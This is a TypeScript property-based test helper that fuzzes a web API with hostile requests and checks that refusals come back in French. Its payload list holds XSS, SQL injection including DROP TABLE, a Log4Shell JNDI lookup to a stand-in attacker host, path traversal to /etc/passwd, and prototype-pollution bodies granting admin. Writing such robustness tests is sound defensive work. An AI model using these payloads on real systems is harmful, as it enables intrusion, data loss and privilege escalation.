import fc from 'fast-check';

/** Strings that broke web applications before: markup, SQL, template and path tricks, odd code points. */
const knownAttacks = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE callback_requests; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://attaquant.example/a}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u0000',
  '\uFEFF\u200B\u200D',
  '\u202Eevil\u202C',
  '\uD800',
  '\uDFFF',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦 🏳️‍🌈',
  'Ｊｅａｎ　Ｄｕｐｏｎｔ',
  'e\u0301\u0301\u0301\u0301',
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e309',
  'null',
  'true',
  ' ',
  '',
];

const specialKeys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...knownAttacks) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', 'é', '😀', '<', "'"), fc.integer({ min: 1_000, max: 80_000 })).map(([c, n]) => c.repeat(n)) },
);

const hostileNumber = fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, -(2 ** 63)));

const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...specialKeys), fc.string({ maxLength: 10 })), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** JSON nested far deeper than any form: `[[[[…]]]]` or `{"a":{"a":…}}`. */
const deeplyNested = fc
  .tuple(fc.integer({ min: 500, max: 5_000 }), fc.boolean())
  .map(([depth, arrays]) => (arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`));

const contentTypes = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  'application/octet-stream',
  'application/jsonx',
  '*/*',
  '',
];

/** Percent-encodes a string, lone surrogates included (sent as U+FFFD, as a browser does). */
const uriComponent = (value: string) => encodeURIComponent(value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));

interface HostileRequest {
  body: string | undefined;
  contentType: string | undefined;
  query: string;
  pathValue: string;
}

/** A JSON text with a `__proto__` key of its own (JSON.stringify never writes one from an object). */
const withProtoKey = (base: Record<string, unknown>) => fc.constantFrom(
  `{"__proto__":{"isAdmin":true,"roles":["ROLE_ADMIN"]},${JSON.stringify(base).slice(1)}`,
  `${JSON.stringify(base).slice(0, -1)},"constructor":{"prototype":{"polluted":true}}}`,
);

/** Bodies for one route: its valid sample with hostile fields, hostile documents, broken and empty texts. */
function hostileBody(sample: Record<string, unknown> | undefined): fc.Arbitrary<string | undefined> {
  const base = sample ?? { a: 1 };
  const keys = Object.keys(base);
  const mutated = fc
    .array(fc.tuple(keys.length ? fc.constantFrom(...keys) : fc.string(), hostileValue), { minLength: 1, maxLength: 3 })
    .map((changes) => JSON.stringify({ ...base, ...Object.fromEntries(changes) }));
  return fc.oneof(
    { weight: 4, arbitrary: mutated },
    { weight: 2, arbitrary: hostileValue.map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 1, arbitrary: fc.jsonValue().map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: withProtoKey(base) },
    { weight: 1, arbitrary: deeplyNested },
    { weight: 1, arbitrary: fc.integer({ min: 0, max: 40 }).map((n) => JSON.stringify(base).slice(0, n)) },
    { weight: 1, arbitrary: fc.constantFrom(undefined, '', ' ', 'null', '[]', '"texte"', '{', '{"a":', '\u0000') },
    { weight: 1, arbitrary: hostileString },
  );
}

export function hostileRequest(sample: Record<string, unknown> | undefined): fc.Arbitrary<HostileRequest> {
  const query = fc.oneof(
    fc.constant(''),
    fc.array(fc.tuple(fc.oneof(fc.constantFrom('page', 'limit', 'source', 'status', 'id', '__proto__', 'q'), fc.string({ maxLength: 8 })), hostileString), { maxLength: 4 })
      .map((pairs) => pairs.map(([k, v]) => `${uriComponent(k)}=${uriComponent(v.slice(0, 2_000))}`).join('&')),
    fc.constantFrom('page=-1&limit=99999999999999999999', 'page[]=1&page[]=2', 'limit=NaN', 'a=%ZZ', '%', '&&&==', `x=${'y'.repeat(8_000)}`),
  );
  const pathValue = fc.oneof(
    fc.constantFrom('0', '-1', '1.5', '1e3', '99999999999999999999', 'NaN', 'admin', '%2e%2e%2f', '..', 'null', ' '),
    hostileString.map((s) => uriComponent(s.slice(0, 500)) || 'x'),
  );
  // JSON most of the time, so most bodies reach the validators rather than the content-type check.
  const contentType = fc.oneof({ weight: 3, arbitrary: fc.constant('application/json') }, { weight: 2, arbitrary: fc.constantFrom<string | undefined>(...contentTypes, undefined) });
  return fc.record({ body: hostileBody(sample), contentType, query, pathValue });
}

// Words of an English error that never appear in the product's French messages.
const ENGLISH = /\b(the|is|are|must|should|invalid|error|required|expected|unexpected|body|not found|failed|cannot|unsupported|too large|missing|unknown|property)\b/i;

/** A refusal the product may give: a 4xx with a `message` in French, or a French page where a page was asked for. */
export function frenchRefusalProblem(status: number, bodyText: string): string | null {
  if (status >= 500) return `réponse ${status}`;
  if (status < 400) return null;
  if (/^<!doctype html>/i.test(bodyText)) return /<html lang="fr"/.test(bodyText) ? null : `page non française : ${bodyText.slice(0, 120)}`;
  let body: unknown;
  try {
    body = JSON.parse(bodyText);
  } catch {
    return `corps non JSON : ${bodyText.slice(0, 120)}`;
  }
  const message = (body as { message?: unknown }).message;
  if (typeof message !== 'string' || !message.trim()) return `pas de message : ${bodyText.slice(0, 120)}`;
  // What the client sent comes back quoted ('Clé non reconnue : "is"'): its words are not the product's.
  if (ENGLISH.test(message.replace(/"[^"]*"/g, ''))) return `message en anglais : ${message}`;
  return null;
}
